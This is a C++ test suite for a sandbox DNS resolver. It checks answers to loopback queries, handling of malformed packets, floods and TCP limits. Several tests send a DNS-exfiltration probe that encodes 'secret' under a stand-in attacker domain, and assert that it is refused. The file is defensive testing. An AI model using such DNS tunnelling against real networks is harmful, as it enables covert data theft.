// The sandbox's resolver on a real libuv loop, queried over loopback UDP and TCP by plain
// blocking sockets in a helper thread while the test's thread runs the loop. The Answerer
// records every question it is asked, so each test can assert that nothing but the names sent
// reached the policy, and that nothing else happened. Every test ends with the resolver closed
// and uv_loop_close() == 0.
#include "proxy/dns/sandbox_resolver.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <fstream>
#include <functional>
#include <memory>
#include <optional>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include <gtest/gtest.h>

#include "policy/host_name.h"
#include "tests/support/loop_driver.h"
#include "tests/support/loopback_tcp_client.h"

namespace sluice::proxy::dns {
namespace {

using namespace std::chrono_literals;
using Bytes = std::vector<std::uint8_t>;
using Asked = std::vector<std::pair<std::string, std::uint16_t>>;

constexpr std::uint16_t kTxt = 16;
constexpr std::uint16_t kHttps = 65;

policy::IpAddress ip(std::string_view text) {
  auto parsed = policy::IpAddress::parse(text);
  EXPECT_TRUE(parsed) << text;
  return parsed.value_or(policy::IpAddress());
}

// ---- Building queries and reading responses (RFC 1035, written here) ----------------------

void put16(Bytes& b, std::uint16_t v) {
  b.push_back(static_cast<std::uint8_t>(v >> 8));
  b.push_back(static_cast<std::uint8_t>(v));
}

Bytes makeQuery(std::uint16_t id, std::string_view name, std::uint16_t qtype, bool edns = false,
                std::uint16_t qclass = 1, std::uint8_t flags1 = 0x01) {
  Bytes b;
  put16(b, id);
  b.push_back(flags1);
  b.push_back(0);
  put16(b, 1);
  put16(b, 0);
  put16(b, 0);
  put16(b, edns ? 1 : 0);
  while (!name.empty()) {
    const std::size_t dot = name.find('.');
    const std::string_view label = name.substr(0, dot);
    b.push_back(static_cast<std::uint8_t>(label.size()));
    b.insert(b.end(), label.begin(), label.end());
    name = dot == std::string_view::npos ? std::string_view() : name.substr(dot + 1);
  }
  b.push_back(0);
  put16(b, qtype);
  put16(b, qclass);
  if (edns) {
    b.insert(b.end(), {0, 0, 41, 0x10, 0x00, 0, 0, 0, 0, 0, 0});  // 4096 bytes
  }
  return b;
}

Bytes framed(const Bytes& message) {
  Bytes b;
  put16(b, static_cast<std::uint16_t>(message.size()));
  b.insert(b.end(), message.begin(), message.end());
  return b;
}

struct Reply {
  std::uint16_t id = 0;
  bool qr = false, aa = false, rd = false, ra = false, tc = false;
  int rcode = -1;
  int qd = 0, an = 0, ns = 0, ar = 0;
  std::vector<std::uint16_t> types;  // of the answer records
  std::vector<policy::IpAddress> addresses;
  std::size_t size = 0;
};

std::uint16_t read16(const Bytes& m, std::size_t at) {
  return static_cast<std::uint16_t>(m[at] << 8 | m[at + 1]);
}

// Enough of a decoder for what the resolver sends: the header, one uncompressed question, and
// answer records whose owner is a pointer.
std::optional<Reply> decode(const Bytes& m) {
  if (m.size() < 12) {
    return std::nullopt;
  }
  Reply r;
  r.size = m.size();
  r.id = read16(m, 0);
  r.qr = m[2] & 0x80;
  r.aa = m[2] & 0x04;
  r.tc = m[2] & 0x02;
  r.rd = m[2] & 0x01;
  r.ra = m[3] & 0x80;
  r.rcode = m[3] & 0xf;
  r.qd = read16(m, 4);
  r.an = read16(m, 6);
  r.ns = read16(m, 8);
  r.ar = read16(m, 10);
  std::size_t at = 12;
  if (r.qd == 1) {
    while (at < m.size() && m[at] != 0) {
      at += 1 + m[at];
    }
    at += 5;
  }
  for (int i = 0; i < r.an; ++i) {
    if (at + 12 > m.size() || m[at] != 0xc0 || m[at + 1] != 12) {
      return std::nullopt;
    }
    const std::uint16_t type = read16(m, at + 2);
    const std::size_t length = read16(m, at + 10);
    at += 12;
    if (at + length > m.size()) {
      return std::nullopt;
    }
    r.types.push_back(type);
    if (type == 1 && length == 4) {
      r.addresses.push_back(policy::IpAddress::fromV4(
          static_cast<std::uint32_t>(m[at] << 24 | m[at + 1] << 16 | m[at + 2] << 8 | m[at + 3])));
    } else if (type == 28 && length == 16) {
      std::array<std::uint8_t, 16> bytes;
      std::copy(m.begin() + static_cast<std::ptrdiff_t>(at),
                m.begin() + static_cast<std::ptrdiff_t>(at + 16), bytes.begin());
      r.addresses.push_back(policy::IpAddress::fromV6(bytes));
    }
    at += length;
  }
  return r;
}

// ---- Blocking clients (run on the helper thread) -------------------------------------------

void setTimeout(int fd, std::chrono::milliseconds t) {
  timeval tv{};
  tv.tv_sec = static_cast<time_t>(t.count() / 1000);
  tv.tv_usec = static_cast<suseconds_t>(t.count() % 1000 * 1000);
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

sockaddr_in loopback(std::uint16_t port) {
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(port);
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return a;
}

class UdpClient {
 public:
  explicit UdpClient(std::uint16_t port) : to_(loopback(port)) {
    fd_ = ::socket(AF_INET, SOCK_DGRAM, 0);
    setTimeout(fd_, 3000ms);
  }
  ~UdpClient() { ::close(fd_); }
  void send(const Bytes& message) {
    ::sendto(fd_, message.data(), message.size(), 0, reinterpret_cast<const sockaddr*>(&to_),
             sizeof(to_));
  }
  std::optional<Bytes> receive() {
    Bytes buf(65536);
    const ssize_t n = ::recv(fd_, buf.data(), buf.size(), 0);
    if (n < 0) {
      return std::nullopt;
    }
    buf.resize(static_cast<std::size_t>(n));
    return buf;
  }
  std::optional<Reply> ask(const Bytes& message) {
    send(message);
    auto bytes = receive();
    return bytes ? decode(*bytes) : std::nullopt;
  }

 private:
  int fd_;
  sockaddr_in to_;
};

class TcpClient : public test_support::LoopbackTcpClient {
 public:
  // buffer_size > 0: small socket buffers, set before connecting so the window is small too.
  explicit TcpClient(std::uint16_t port, int buffer_size = 0)
      : LoopbackTcpClient(port, 3000ms, buffer_size) {}

  using LoopbackTcpClient::send;
  bool send(const Bytes& bytes) { return send(bytes.data(), bytes.size()); }

  // Exactly n bytes, or nullopt on EOF, reset or timeout.
  std::optional<Bytes> readExactly(std::size_t n) {
    Bytes out(n);
    std::size_t at = 0;
    while (at < n) {
      const ssize_t got = ::recv(fd_, out.data() + at, n - at, 0);
      if (got <= 0) {
        return std::nullopt;
      }
      at += static_cast<std::size_t>(got);
    }
    return out;
  }
  std::optional<Bytes> readMessage() {
    auto prefix = readExactly(2);
    if (!prefix) {
      return std::nullopt;
    }
    return readExactly(read16(*prefix, 0));
  }
  std::optional<Reply> readReply() {
    auto m = readMessage();
    return m ? decode(*m) : std::nullopt;
  }
};

// ---- The fixture ---------------------------------------------------------------------------

// The policy of the integration test bed, as an Answerer: canonicalise, then allowed.test gets the
// sandbox-facing gateway address for A, nothing for other types; every other name NXDOMAIN.
SandboxAnswer bedPolicy(std::string_view qname, std::uint16_t qtype) {
  auto host = policy::canonicalizeHost(qname);
  if (!host || host->text() != "allowed.test") {
    return {SandboxAnswer::Kind::NxDomain, {}, 0};
  }
  if (qtype == kDnsTypeA) {
    return {SandboxAnswer::Kind::Addresses, {ip("10.200.0.1")}, 60};
  }
  return {SandboxAnswer::Kind::NoData, {}, 0};
}

class SandboxResolverTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_EQ(uv_loop_init(&loop_), 0);
    wake_ = new uv_async_t;
    uv_async_init(&loop_, wake_, [](uv_async_t*) {});
    answerer_ = [](std::string_view qname, std::uint16_t qtype) { return bedPolicy(qname, qtype); };
  }

  void TearDown() override {
    bool closed = resolver_ == nullptr;
    if (resolver_) {
      resolver_->close([&] { closed = true; });
    }
    uv_close(reinterpret_cast<uv_handle_t*>(wake_),
             [](uv_handle_t* h) { delete reinterpret_cast<uv_async_t*>(h); });
    uv_run(&loop_, UV_RUN_DEFAULT);
    EXPECT_TRUE(closed) << "close() never called done";
    resolver_.reset();
    EXPECT_EQ(uv_loop_close(&loop_), 0);
  }

  SandboxResolver& start(SandboxResolver::Limits limits = {}) {
    resolver_ = std::make_unique<SandboxResolver>(
        &loop_, policy::Endpoint{ip("127.0.0.1"), 0},
        [this](std::string_view qname, std::uint16_t qtype) {
          asked_.emplace_back(std::string(qname), qtype);
          return answerer_(qname, qtype);
        },
        limits);
    auto started = resolver_->start();
    EXPECT_TRUE(started.ok()) << (started.ok() ? "" : started.error());
    port_ = resolver_->endpoint().port;
    EXPECT_NE(port_, 0);
    return *resolver_;
  }

  // Runs `client` on a helper thread while this thread runs the loop; returns when it is done.
  void withClient(const std::function<void()>& client) {
    test_support::runLoopWithClient(&loop_, wake_, client);
  }

  // Drives the loop until `done` holds or `limit` passes (a safety net, not a sleep).
  bool runUntil(const std::function<bool()>& done, std::chrono::milliseconds limit = 5000ms) {
    return test_support::runLoopUntil(&loop_, done, limit);
  }

  uv_loop_t loop_{};
  uv_async_t* wake_ = nullptr;
  std::unique_ptr<SandboxResolver> resolver_;
  SandboxResolver::Answerer answerer_;
  Asked asked_;
  std::uint16_t port_ = 0;
};

// ---- UDP -----------------------------------------------------------------------------------

// Exfiltration through the resolver, over UDP: only A for the allowed name carries an address.
TEST_F(SandboxResolverTest, UdpAnswersOnlyAllowedAddresses) {
  start();
  std::vector<std::optional<Reply>> replies;
  withClient([&] {
    UdpClient c(port_);
    replies.push_back(c.ask(makeQuery(1, "c2VjcmV0.attacker.test", kTxt)));
    replies.push_back(c.ask(makeQuery(2, "c2VjcmV0.attacker.test", kDnsTypeA)));
    replies.push_back(c.ask(makeQuery(3, "allowed.test", kHttps)));
    replies.push_back(c.ask(makeQuery(4, "allowed.test", kDnsTypeA)));
    replies.push_back(c.ask(makeQuery(5, "allowed.test", kDnsTypeAaaa)));
    replies.push_back(c.ask(makeQuery(6, "ALLOWED.test", kDnsTypeA, /*edns=*/true)));
  });
  ASSERT_EQ(replies.size(), 6u);
  for (std::size_t i = 0; i < replies.size(); ++i) {
    ASSERT_TRUE(replies[i]) << i;
    EXPECT_EQ(replies[i]->id, i + 1);
    EXPECT_TRUE(replies[i]->qr);
    EXPECT_TRUE(replies[i]->aa);
    EXPECT_TRUE(replies[i]->rd);
    EXPECT_FALSE(replies[i]->ra);  // no recursion, ever
  }
  EXPECT_EQ(replies[0]->rcode, 3);
  EXPECT_EQ(replies[0]->an, 0);
  EXPECT_EQ(replies[1]->rcode, 3);
  EXPECT_EQ(replies[1]->an, 0);
  EXPECT_EQ(replies[2]->rcode, 0);
  EXPECT_EQ(replies[2]->an, 0);
  EXPECT_EQ(replies[3]->rcode, 0);
  EXPECT_EQ(replies[3]->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
  EXPECT_EQ(replies[4]->rcode, 0);
  EXPECT_EQ(replies[4]->an, 0);
  EXPECT_EQ(replies[5]->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
  EXPECT_EQ(replies[5]->ar, 1);  // our OPT

  EXPECT_EQ(asked_, (Asked{{"c2VjcmV0.attacker.test", kTxt},
                           {"c2VjcmV0.attacker.test", kDnsTypeA},
                           {"allowed.test", kHttps},
                           {"allowed.test", kDnsTypeA},
                           {"allowed.test", kDnsTypeAaaa},
                           {"ALLOWED.test", kDnsTypeA}}));
  const auto& s = resolver_->stats();
  EXPECT_EQ(s.queries, 6u);
  EXPECT_EQ(s.answered, 2u);
  EXPECT_EQ(s.nxdomain, 2u);
  EXPECT_EQ(s.nodata, 2u);
  EXPECT_EQ(s.dropped, 0u);
}

// Whatever the Answerer says, a TXT or HTTPS question gets no record, and A/AAAA only records
// of their own family.
TEST_F(SandboxResolverTest, AddressesOnlyForTheirOwnFamilyAndType) {
  answerer_ = [](std::string_view, std::uint16_t) {
    return SandboxAnswer{SandboxAnswer::Kind::Addresses, {ip("10.200.0.1"), ip("fd00::1")}, 30};
  };
  start();
  std::vector<std::optional<Reply>> replies;
  withClient([&] {
    UdpClient c(port_);
    for (std::uint16_t type : {kDnsTypeA, kDnsTypeAaaa, kTxt, kHttps, std::uint16_t{255}}) {
      replies.push_back(c.ask(makeQuery(type, "allowed.test", type)));
    }
  });
  ASSERT_EQ(replies.size(), 5u);
  for (const auto& r : replies) {
    ASSERT_TRUE(r);
  }
  EXPECT_EQ(replies[0]->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
  EXPECT_EQ(replies[1]->addresses, std::vector<policy::IpAddress>{ip("fd00::1")});
  for (std::size_t i = 2; i < replies.size(); ++i) {
    EXPECT_EQ(replies[i]->rcode, 0);
    EXPECT_EQ(replies[i]->an, 0) << i;
  }
}

// The Answerer refuses (the sandbox is over dns_queries_per_second): REFUSED, no record, and
// the name and type are still those asked.
TEST_F(SandboxResolverTest, RefusedByTheAnswererIsRefused) {
  answerer_ = [](std::string_view, std::uint16_t) {
    return SandboxAnswer{SandboxAnswer::Kind::Refused, {ip("10.200.0.1")}, 30};
  };
  start();
  std::optional<Reply> reply;
  withClient([&] {
    UdpClient c(port_);
    reply = c.ask(makeQuery(9, "allowed.test", kDnsTypeA));
  });
  ASSERT_TRUE(reply);
  EXPECT_EQ(reply->id, 9);
  EXPECT_EQ(reply->rcode, 5);
  EXPECT_EQ(reply->an, 0);
  EXPECT_EQ(resolver_->stats().refused, 1u);
}

TEST_F(SandboxResolverTest, UdpResponseFitsTheClientsSize) {
  answerer_ = [](std::string_view, std::uint16_t qtype) {
    SandboxAnswer a{SandboxAnswer::Kind::Addresses, {}, 30};
    for (std::uint32_t i = 0; i < 200; ++i) {
      if (qtype == kDnsTypeA) {
        a.addresses.push_back(policy::IpAddress::fromV4(0x0a000000 + i));
      } else {
        std::array<std::uint8_t, 16> b{0xfd};
        b[15] = static_cast<std::uint8_t>(i);
        a.addresses.push_back(policy::IpAddress::fromV6(b));
      }
    }
    return a;
  };
  start();
  std::optional<Reply> plain, edns, tcp;
  withClient([&] {
    UdpClient c(port_);
    plain = c.ask(makeQuery(1, "allowed.test", kDnsTypeAaaa));
    edns = c.ask(makeQuery(2, "allowed.test", kDnsTypeAaaa, /*edns=*/true));
    TcpClient t(port_);
    t.send(framed(makeQuery(3, "allowed.test", kDnsTypeA)));
    tcp = t.readReply();
  });
  ASSERT_TRUE(plain && edns && tcp);
  EXPECT_LE(plain->size, 512u);
  EXPECT_GT(plain->size, 512u - 28);  // as many as fit
  EXPECT_FALSE(plain->tc);
  EXPECT_LE(edns->size, 1232u);
  EXPECT_GT(edns->size, 1232u - 28);
  EXPECT_EQ(tcp->an, static_cast<int>(SandboxResolver::kMaxAddresses));
}

TEST_F(SandboxResolverTest, UdpMalformedGetsFormErrOtherOpcodesNotImpResponsesNothing) {
  start();
  std::vector<std::optional<Reply>> replies;
  withClient([&] {
    UdpClient c(port_);
    Bytes bad = makeQuery(11, "allowed.test", kDnsTypeA);
    bad.push_back(0);  // trailing garbage
    replies.push_back(c.ask(bad));
    replies.push_back(c.ask(makeQuery(12, "allowed.test", kDnsTypeA, false, 1, 2 << 3)));
    // A response and a runt get no reply: the next reply is the next query's.
    c.send(makeQuery(13, "allowed.test", kDnsTypeA, false, 1, 0x80));
    c.send(Bytes{1, 2, 3});
    c.send(Bytes{});
    replies.push_back(c.ask(makeQuery(14, "version.bind", kTxt, false, /*qclass=*/3)));
  });
  ASSERT_EQ(replies.size(), 3u);
  ASSERT_TRUE(replies[0] && replies[1] && replies[2]);
  EXPECT_EQ(replies[0]->id, 11);
  EXPECT_EQ(replies[0]->rcode, 1);
  EXPECT_EQ(replies[1]->id, 12);
  EXPECT_EQ(replies[1]->rcode, 4);
  EXPECT_EQ(replies[2]->id, 14);
  EXPECT_EQ(replies[2]->rcode, 5);  // CHAOS: refused without asking the policy
  EXPECT_TRUE(asked_.empty());
  const auto& s = resolver_->stats();
  EXPECT_EQ(s.queries, 6u);
  EXPECT_EQ(s.formerr, 1u);
  EXPECT_EQ(s.notimp, 1u);
  EXPECT_EQ(s.refused, 1u);
  EXPECT_EQ(s.dropped, 3u);
}

TEST_F(SandboxResolverTest, UdpGarbageFloodIsSurvivedAndNeverReachesThePolicy) {
  start();
  std::optional<Reply> after;
  withClient([&] {
    UdpClient c(port_);
    std::uint32_t x = 12345;
    for (int i = 0; i < 2000; ++i) {
      Bytes junk(static_cast<std::size_t>(i % 600));
      for (auto& b : junk) {
        x = x * 1103515245 + 12345;
        b = static_cast<std::uint8_t>(x >> 16);
      }
      if (junk.size() > 2) {
        junk[2] |= 0x80;  // responses: never answered, so the flood needs no reading
      }
      c.send(junk);
    }
    // The flood may overflow the socket's receive buffer, and the kernel drops what does not
    // fit: like a real client, ask again until answered.
    for (int attempt = 0; attempt < 5 && !after; ++attempt) {
      after = c.ask(makeQuery(99, "allowed.test", kDnsTypeA));
    }
  });
  ASSERT_TRUE(after);
  EXPECT_EQ(after->id, 99);
  ASSERT_FALSE(asked_.empty());
  for (const auto& question : asked_) {
    EXPECT_EQ(question, (std::pair<std::string, std::uint16_t>{"allowed.test", kDnsTypeA}));
  }
}

// ---- TCP -----------------------------------------------------------------------------------

TEST_F(SandboxResolverTest, TcpTwoPipelinedQueriesInOneWrite) {
  start();
  std::optional<Reply> first, second;
  withClient([&] {
    TcpClient c(port_);
    Bytes both = framed(makeQuery(21, "allowed.test", kDnsTypeA));
    const Bytes more = framed(makeQuery(22, "c2VjcmV0.attacker.test", kTxt));
    both.insert(both.end(), more.begin(), more.end());
    c.send(both);
    first = c.readReply();
    second = c.readReply();
  });
  ASSERT_TRUE(first && second);
  EXPECT_EQ(first->id, 21);
  EXPECT_EQ(first->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
  EXPECT_EQ(second->id, 22);
  EXPECT_EQ(second->rcode, 3);
  EXPECT_EQ(asked_, (Asked{{"allowed.test", kDnsTypeA}, {"c2VjcmV0.attacker.test", kTxt}}));
  EXPECT_EQ(resolver_->stats().tcp_connections, 1u);
}

TEST_F(SandboxResolverTest, TcpQuerySplitAcrossWrites) {
  start();
  std::optional<Reply> reply;
  withClient([&] {
    TcpClient c(port_);
    const Bytes whole = framed(makeQuery(31, "allowed.test", kDnsTypeA));
    // Split inside the prefix and inside the question. The pauses only make separate reads
    // likely; the answer must be the same either way.
    c.send(Bytes(whole.begin(), whole.begin() + 1));
    std::this_thread::sleep_for(20ms);
    c.send(Bytes(whole.begin() + 1, whole.begin() + 17));
    std::this_thread::sleep_for(20ms);
    c.send(Bytes(whole.begin() + 17, whole.end()));
    reply = c.readReply();
  });
  ASSERT_TRUE(reply);
  EXPECT_EQ(reply->id, 31);
  EXPECT_EQ(reply->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
  EXPECT_EQ(asked_, (Asked{{"allowed.test", kDnsTypeA}}));
}

TEST_F(SandboxResolverTest, TcpLengthPrefixWithoutBodyThenClose) {
  start();
  bool closed = false;
  withClient([&] {
    TcpClient c(port_);
    c.send(Bytes{0, 30});
    c.shutdownWrite();
    closed = c.closedByPeer();
  });
  EXPECT_TRUE(closed);
  EXPECT_TRUE(asked_.empty());
  EXPECT_TRUE(runUntil([&] { return resolver_->tcpConnections() == 0; }));
  EXPECT_EQ(resolver_->stats().dropped, 1u);

  // And with the socket simply closed.
  withClient([&] {
    TcpClient c(port_);
    c.send(Bytes{0, 30, 0x12});
  });
  EXPECT_TRUE(runUntil([&] { return resolver_->tcpConnections() == 0; }));
  EXPECT_TRUE(asked_.empty());
}

TEST_F(SandboxResolverTest, TcpHalfCloseStillGetsItsAnswers) {
  start();
  std::optional<Reply> first, second;
  bool closed = false;
  withClient([&] {
    TcpClient c(port_);
    Bytes both = framed(makeQuery(41, "allowed.test", kDnsTypeA));
    const Bytes more = framed(makeQuery(42, "allowed.test", kDnsTypeAaaa));
    both.insert(both.end(), more.begin(), more.end());
    c.send(both);
    c.shutdownWrite();
    first = c.readReply();
    second = c.readReply();
    closed = c.closedByPeer();
  });
  ASSERT_TRUE(first && second);
  EXPECT_EQ(first->id, 41);
  EXPECT_EQ(second->id, 42);
  EXPECT_TRUE(closed);
}

TEST_F(SandboxResolverTest, TcpOversizedLengthClosesTheConnection) {
  start();
  bool closed = false;
  withClient([&] {
    TcpClient c(port_);
    c.send(Bytes{0xff, 0xff, 1, 2, 3});
    closed = c.closedByPeer();
  });
  EXPECT_TRUE(closed);
  EXPECT_TRUE(asked_.empty());
}

TEST_F(SandboxResolverTest, TcpMalformedGetsFormErrAndTheConnectionGoesOn) {
  start();
  std::optional<Reply> first, second, third;
  withClient([&] {
    TcpClient c(port_);
    Bytes bad = makeQuery(51, "allowed.test", kDnsTypeA);
    bad[5] = 2;  // QDCOUNT 2
    Bytes all = framed(bad);
    const Bytes response = framed(makeQuery(52, "allowed.test", kDnsTypeA, false, 1, 0x80));
    const Bytes good = framed(makeQuery(53, "allowed.test", kDnsTypeA));
    all.insert(all.end(), response.begin(), response.end());
    all.insert(all.end(), good.begin(), good.end());
    c.send(all);
    first = c.readReply();
    second = c.readReply();
  });
  ASSERT_TRUE(first && second);
  EXPECT_EQ(first->id, 51);
  EXPECT_EQ(first->rcode, 1);
  EXPECT_EQ(second->id, 53);  // the response in between got nothing
  EXPECT_EQ(asked_, (Asked{{"allowed.test", kDnsTypeA}}));
}

// 70 connections at once: the 6 oldest make room for the newest, 64 get answers.
TEST_F(SandboxResolverTest, TcpSeventyConnectionsAtMostSixtyFourServed) {
  start();
  std::vector<std::unique_ptr<TcpClient>> clients;
  withClient([&] {
    for (int i = 0; i < 70; ++i) {
      clients.push_back(std::make_unique<TcpClient>(port_));
    }
  });
  ASSERT_TRUE(runUntil([&] { return resolver_->stats().tcp_connections == 70; }));
  EXPECT_EQ(resolver_->tcpConnections(), 64u);
  EXPECT_EQ(resolver_->stats().tcp_evicted, 6u);

  std::vector<bool> served(70, false);
  withClient([&] {
    for (std::size_t i = 0; i < clients.size(); ++i) {
      clients[i]->send(framed(makeQuery(static_cast<std::uint16_t>(i), "allowed.test", 1)));
    }
    for (std::size_t i = 0; i < clients.size(); ++i) {
      auto r = clients[i]->readReply();
      served[i] = r && r->id == i;
    }
  });
  for (std::size_t i = 0; i < 70; ++i) {
    EXPECT_EQ(served[i], i >= 6) << i;
  }
  EXPECT_EQ(asked_.size(), 64u);
  clients.clear();
}

TEST_F(SandboxResolverTest, TcpIdleConnectionIsClosed) {
  SandboxResolver::Limits limits;
  limits.tcp_idle_timeout = 200ms;
  start(limits);
  bool closed = false;
  std::optional<Reply> reply;
  withClient([&] {
    TcpClient c(port_);
    c.send(framed(makeQuery(61, "allowed.test", kDnsTypeA)));
    reply = c.readReply();
    c.send(Bytes{0, 40, 1});    // a query that never completes does not keep it open
    closed = c.closedByPeer();  // within the 3 s receive timeout
  });
  ASSERT_TRUE(reply);
  EXPECT_TRUE(closed);
  EXPECT_TRUE(runUntil([&] { return resolver_->tcpConnections() == 0; }));
}

// A client that sends without reading: once its unwritten answers reach the cap, the resolver
// stops reading (so the client's sends block, instead of the resolver's memory growing). When
// the client reads again, every query gets its answer, in order. The client starts reading
// only after the resolver reported the pause.
TEST_F(SandboxResolverTest, TcpUnreadAnswersStopReadingUntilWritten) {
  SandboxResolver::Limits limits;
  limits.max_pending_bytes = 1024;
  start(limits);
  // More answers than the kernel buffers between us hold (the resolver's send buffer grows to
  // 4 MiB by default; the client's receive buffer is 4 KiB).
  constexpr std::size_t kQueries = 150000;
  TcpClient c(port_, /*buffer_size=*/4096);
  setTimeout(c.fd(), 60000ms);
  std::atomic<bool> go_read{false};
  std::atomic<bool> finished{false};
  bool all_sent = false;
  std::size_t answered = 0;
  bool in_order = true;
  std::thread writer([&] {
    Bytes batch;
    for (std::size_t i = 0; i < kQueries; ++i) {
      Bytes q = framed(makeQuery(static_cast<std::uint16_t>(i), "allowed.test", kDnsTypeA));
      batch.insert(batch.end(), q.begin(), q.end());
      if (batch.size() > 16384 || i + 1 == kQueries) {
        if (!c.send(batch)) {
          return;
        }
        batch.clear();
      }
    }
    all_sent = true;
  });
  std::thread reader([&] {
    go_read.wait(false);
    while (answered < kQueries) {
      auto r = c.readReply();
      if (!r) {
        break;
      }
      in_order = in_order && r->id == static_cast<std::uint16_t>(answered);
      ++answered;
    }
    finished = true;
    uv_async_send(wake_);
  });
  const bool paused = runUntil([&] { return resolver_->stats().tcp_read_pauses > 0; }, 30000ms);
  go_read = true;
  go_read.notify_one();
  while (!finished) {
    uv_run(&loop_, UV_RUN_ONCE);
  }
  writer.join();
  reader.join();
  EXPECT_TRUE(paused);
  EXPECT_TRUE(all_sent);
  EXPECT_EQ(answered, kQueries);
  EXPECT_TRUE(in_order);
  EXPECT_EQ(asked_.size(), kQueries);
}

// ---- Binding and closing -------------------------------------------------------------------

TEST_F(SandboxResolverTest, NoOtherSocketCanBindBesideIt) {
  start();
  const sockaddr_in a = loopback(port_);
  for (int type : {SOCK_DGRAM, SOCK_STREAM}) {
    for (int option : {SO_REUSEADDR, SO_REUSEPORT}) {
      const int fd = ::socket(AF_INET, type, 0);
      const int one = 1;
      ::setsockopt(fd, SOL_SOCKET, option, &one, sizeof(one));
      EXPECT_NE(::bind(fd, reinterpret_cast<const sockaddr*>(&a), sizeof(a)), 0)
          << (type == SOCK_DGRAM ? "udp" : "tcp") << " option " << option;
      ::close(fd);
    }
  }
}

TEST_F(SandboxResolverTest, PortInUseIsAnErrorNamingTheEndpoint) {
  // UDP taken, TCP free on the same number (other processes use ports too: pick one so).
  int udp = -1;
  sockaddr_in a{};
  socklen_t length = sizeof(a);
  for (int attempt = 0; attempt < 50; ++attempt) {
    udp = ::socket(AF_INET, SOCK_DGRAM, 0);
    a = loopback(0);
    ASSERT_EQ(::bind(udp, reinterpret_cast<const sockaddr*>(&a), sizeof(a)), 0);
    length = sizeof(a);
    ::getsockname(udp, reinterpret_cast<sockaddr*>(&a), &length);
    const int probe = ::socket(AF_INET, SOCK_STREAM, 0);
    const int one = 1;
    ::setsockopt(probe, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    const bool tcp_free = ::bind(probe, reinterpret_cast<const sockaddr*>(&a), sizeof(a)) == 0;
    ::close(probe);
    if (tcp_free) {
      break;
    }
    ::close(udp);
    udp = -1;
  }
  ASSERT_GE(udp, 0);
  const std::uint16_t port = ntohs(a.sin_port);
  {
    SandboxResolver r(&loop_, policy::Endpoint{ip("127.0.0.1"), port}, bedPolicy);
    auto started = r.start();
    ASSERT_FALSE(started.ok());
    EXPECT_EQ(started.error(),
              "127.0.0.1:" + std::to_string(port) + " (udp): Address already in use");
    bool done = false;
    r.close([&] { done = true; });
    EXPECT_TRUE(runUntil([&] { return done; }));
  }
  ::close(udp);

  // TCP taken.
  const int tcp = ::socket(AF_INET, SOCK_STREAM, 0);
  a = loopback(0);
  ASSERT_EQ(::bind(tcp, reinterpret_cast<const sockaddr*>(&a), sizeof(a)), 0);
  ASSERT_EQ(::listen(tcp, 1), 0);
  length = sizeof(a);
  ::getsockname(tcp, reinterpret_cast<sockaddr*>(&a), &length);
  {
    SandboxResolver r(&loop_, policy::Endpoint{ip("127.0.0.1"), ntohs(a.sin_port)}, bedPolicy);
    auto started = r.start();
    ASSERT_FALSE(started.ok());
    EXPECT_NE(started.error().find(" (tcp): Address already in use"), std::string::npos);
    bool done = false;
    r.close([&] { done = true; });
    EXPECT_TRUE(runUntil([&] { return done; }));
  }
  ::close(tcp);
}

TEST_F(SandboxResolverTest, Ipv6Endpoint) {
  resolver_ = std::make_unique<SandboxResolver>(&loop_, policy::Endpoint{ip("::1"), 0}, bedPolicy);
  auto started = resolver_->start();
  if (!started.ok()) {
    GTEST_SKIP() << "no IPv6 loopback here: " << started.error();
  }
  const std::uint16_t port = resolver_->endpoint().port;
  std::optional<Bytes> reply;
  withClient([&] {
    const int fd = ::socket(AF_INET6, SOCK_DGRAM, 0);
    setTimeout(fd, 3000ms);
    sockaddr_in6 to{};
    to.sin6_family = AF_INET6;
    to.sin6_port = htons(port);
    to.sin6_addr = in6addr_loopback;
    const Bytes q = makeQuery(71, "allowed.test", kDnsTypeA);
    ::sendto(fd, q.data(), q.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof(to));
    Bytes buf(512);
    const ssize_t n = ::recv(fd, buf.data(), buf.size(), 0);
    if (n > 0) {
      buf.resize(static_cast<std::size_t>(n));
      reply = buf;
    }
    ::close(fd);
  });
  ASSERT_TRUE(reply);
  auto r = decode(*reply);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
}

// "[::]" is dual-stack, as the gateway's listeners are (both bound by net::bindSocket): an IPv4
// client of a resolver on the IPv6 wildcard gets its answer. policy::Endpoint::overlaps already
// counts "[::]:53" as taking every IPv4 address's port 53, so no other sandbox can have one.
TEST_F(SandboxResolverTest, V6WildcardServesIpv4ClientsAsTheListenersDo) {
  std::ifstream sysctl("/proc/sys/net/ipv6/bindv6only");
  int v6only = 0;
  if (sysctl >> v6only && v6only != 0) {
    GTEST_SKIP() << "net.ipv6.bindv6only=1: [::] is IPv6-only for every socket here";
  }
  resolver_ = std::make_unique<SandboxResolver>(&loop_, policy::Endpoint{ip("::"), 0}, bedPolicy);
  auto started = resolver_->start();
  if (!started.ok()) {
    GTEST_SKIP() << "no IPv6 here: " << started.error();
  }
  std::optional<Reply> reply;
  const std::uint16_t port = resolver_->endpoint().port;
  withClient([&] { reply = UdpClient(port).ask(makeQuery(72, "allowed.test", kDnsTypeA)); });
  ASSERT_TRUE(reply) << "no answer over IPv4";
  EXPECT_EQ(reply->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
}

TEST_F(SandboxResolverTest, CloseWithoutStart) {
  resolver_ =
      std::make_unique<SandboxResolver>(&loop_, policy::Endpoint{ip("127.0.0.1"), 0}, bedPolicy);
}

